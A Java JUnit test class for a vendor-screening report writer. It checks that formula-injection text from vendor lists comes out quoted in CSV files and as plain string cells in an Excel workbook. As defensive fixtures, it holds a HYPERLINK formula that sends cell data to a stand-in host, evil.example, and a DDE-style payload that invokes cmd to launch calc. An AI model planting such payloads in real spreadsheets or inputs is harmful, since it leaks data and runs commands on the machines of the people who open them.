package se.vendorscreening.reporting.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static se.vendorscreening.reporting.internal.PartyResultBuilder.aPartyResult;

import com.opencsv.CSVReader;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import se.vendorscreening.intake.RejectedRow;
import se.vendorscreening.screening.ChangeClass;
import se.vendorscreening.screening.PartyChange;
import se.vendorscreening.screening.PartyResult;
import se.vendorscreening.screening.ScreeningResults;
import se.vendorscreening.shared.Decision;

/**
 * Hostile text from a vendor list (a name or a rejected value that a spreadsheet would run as a
 * formula) comes out of the run folder as text: quoted in the CSV files, a string cell in the
 * workbook.
 */
class FormulaSafeRunFolderTests {

  private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")";
  private static final String PLUS = "+1";
  private static final String MINUS = "-2";
  private static final String AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0";
  private static final String RUN_ID = "20261128-030000-recheck-13";

  private static final List<PartyResult> PARTIES =
      List.of(
          aPartyResult().withOrgNo("556036-0793").named(HYPERLINK).build(),
          aPartyResult().withOrgNo("556074-7569").named(PLUS).build(),
          aPartyResult().withOrgNo("556703-7485").named(MINUS).build(),
          aPartyResult().withOrgNo("559012-9872").named(AT_SUM).build(),
          aPartyResult().withOrgNo("555242-9028").named("Huddinge Bygg & Mark AB").build());

  private static final List<RejectedRow> REJECTED =
      List.of(
          new RejectedRow("lou-vendors.csv", 4, "name", HYPERLINK, "Namnet saknas"),
          new RejectedRow("lou-vendors.csv", 5, "contract_value", PLUS, "Ogiltigt belopp"),
          new RejectedRow("lou-vendors.csv", 6, "contract_value", MINUS, "Ogiltigt belopp"),
          new RejectedRow("lou-vendors.csv", 7, "org_no", AT_SUM, "Ogiltigt nummer"));

  @TempDir Path out;

  @Test
  void quotesHostileNamesInResultsAndChangesAndHostileValuesInRejectedRows() throws Exception {
    // when
    write(recheckWithHostileText());

    // then
    Path folder = out.resolve(RUN_ID);
    List<String[]> results = readCsv(folder.resolve("results.csv"));
    assertThat(column(results, 2))
        .containsExactlyInAnyOrder(
            "'" + HYPERLINK, "'" + PLUS, "'" + MINUS, "'" + AT_SUM, "Huddinge Bygg & Mark AB");
    assertThat(column(readCsv(folder.resolve("changes.csv")), 2))
        .containsExactlyInAnyOrder(
            "'" + HYPERLINK, "'" + PLUS, "'" + MINUS, "'" + AT_SUM, "Huddinge Bygg & Mark AB");
    assertThat(column(readCsv(folder.resolve("rejected-rows.csv")), 3))
        .containsExactly("'" + HYPERLINK, "'" + PLUS, "'" + MINUS, "'" + AT_SUM);
    assertThat(Files.readString(folder.resolve("results.csv")))
        .as("no line of the file begins a cell with a formula character")
        .doesNotContainPattern("(?m)(^|,)[=+\\-@]");
  }

  @Test
  void leavesTheOrdinaryCellsOfTheCsvFilesAsTheyWere() throws Exception {
    write(recheckWithHostileText());

    String[] ordinary =
        readCsv(out.resolve(RUN_ID).resolve("results.csv")).stream()
            .filter(row -> row[1].equals("555242-9028"))
            .findFirst()
            .orElseThrow();
    assertThat(ordinary).startsWith("KS-2026/317", "555242-9028", "Huddinge Bygg & Mark AB");
    assertThat(ordinary[5]).isEqualTo("CLEAR");
  }

  @Test
  void storesHostileNamesAndRejectedValuesAsPlainStringCellsInTheWorkbook() throws Exception {
    write(recheckWithHostileText());

    try (XSSFWorkbook workbook =
        new XSSFWorkbook(Files.newInputStream(out.resolve(RUN_ID).resolve("report.xlsx")))) {
      List<Cell> names = cellsOf(workbook.getSheet("Alla parter"), 2);
      assertThat(names)
          .allSatisfy(cell -> assertThat(cell.getCellType()).isEqualTo(CellType.STRING));
      assertThat(names)
          .extracting(Cell::getStringCellValue)
          .contains(HYPERLINK, PLUS, MINUS, AT_SUM);
      Sheet rejected = workbook.getSheet("Ej kontrollerade");
      assertThat(cellsOf(rejected, 4))
          .allSatisfy(cell -> assertThat(cell.getCellType()).isEqualTo(CellType.STRING))
          .extracting(Cell::getStringCellValue)
          .containsExactly(HYPERLINK, PLUS, MINUS, AT_SUM);
      for (Sheet sheet : workbook) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertThat(cell.getCellType())
                .as(sheet.getSheetName() + "!" + cell.getAddress())
                .isNotEqualTo(CellType.FORMULA);
          }
        }
      }
    }
  }

  private static ScreeningResults recheckWithHostileText() {
    List<PartyChange> changes =
        PARTIES.stream()
            .map(party -> new PartyChange(party, Decision.REVIEW, ChangeClass.RESOLVED))
            .toList();
    return new InMemoryScreeningResults(
        SampleRun.run(RUN_ID, "recheck", Locale.forLanguageTag("sv-SE"), PARTIES),
        PARTIES,
        changes,
        REJECTED);
  }

  private void write(ScreeningResults results) {
    SampleRun.writer(results).writeRunFolder(results.runs().get(0), out);
  }

  private static List<Cell> cellsOf(Sheet sheet, int column) {
    List<Cell> cells = new ArrayList<>();
    for (Row row : sheet) {
      if (row.getRowNum() > 0 && row.getCell(column) != null) {
        cells.add(row.getCell(column));
      }
    }
    return cells;
  }

  private static List<String> column(List<String[]> rows, int column) {
    return rows.subList(1, rows.size()).stream().map(row -> row[column]).toList();
  }

  private static List<String[]> readCsv(Path file) throws Exception {
    try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
        CSVReader csv = new CSVReader(reader)) {
      return csv.readAll();
    }
  }
}
